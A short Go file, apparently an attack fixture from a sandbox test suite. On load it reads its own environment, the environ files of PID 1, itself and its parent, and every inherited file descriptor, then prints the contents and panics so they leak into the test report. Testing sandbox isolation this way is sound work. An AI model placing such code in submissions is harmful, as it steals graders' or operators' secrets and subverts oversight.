// The snoop: everything of the instructor's it can reach (its own
// environment, that of the sandbox's first process and of its parent, and
// every descriptor it inherited) is put where the report shows it: in the
// panic of a goroutine, which crashes the test binary (TestAttackSnoop).
// It goes beside the untouched stub.
package echo

import (
	"fmt"
	"os"
	"strings"
)

var found strings.Builder

func init() {
	fmt.Fprintf(&found, "env: %q\n", os.Environ())
	for _, p := range []string{"/proc/1/environ", "/proc/self/environ", fmt.Sprintf("/proc/%d/environ", os.Getppid())} {
		if data, err := os.ReadFile(p); err == nil {
			fmt.Fprintf(&found, "%s: %q\n", p, data)
		}
	}
	for fd := 3; fd < 1024; fd++ {
		buf := make([]byte, 4096)
		if n, err := os.NewFile(uintptr(fd), "").Read(buf); err == nil && n > 0 {
			fmt.Fprintf(&found, "descriptor %d: %q\n", fd, buf[:n])
		}
	}
	fmt.Print(found.String())
	go panic(found.String())
}
